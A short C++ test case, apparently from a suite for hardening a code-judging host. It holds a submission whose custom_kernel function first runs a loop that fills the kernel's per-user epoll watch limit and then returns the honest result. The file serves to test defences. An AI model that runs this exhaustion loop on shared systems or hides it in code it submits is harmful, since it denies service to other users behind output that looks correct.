// SPDX-License-Identifier: MIT
// class: Host: floods of what the kernel counts by user
// tries: to take all epoll watches that the kernel allows one user, so that nothing of that user can wait any more.
// expect: passed failed timed_out
// beside: honest
#include "attack.h"

#include <sys/epoll.h>
#include <sys/eventfd.h>

static void attack()
{
	int sets[100];
	for (int &set : sets)
		set = epoll_create1(0);
	epoll_event event = {};
	// A file that stays open somewhere keeps its watches under numbers that have become another's.
	for (int file; (file = eventfd(0, 0)) >= 0;)
		for (int number = 600; number < 1000; number++) {
			dup2(file, number);
			for (int set : sets)
				if (epoll_ctl(set, EPOLL_CTL_ADD, number, &event) != 0 && errno == ENOSPC)
					return;
		}
}

void custom_kernel(const input_t &input, output_t &output)
{
	static int once = (tried(), attack(), sleep(1), 0);
	(void)once;
	honest(input, output);
}
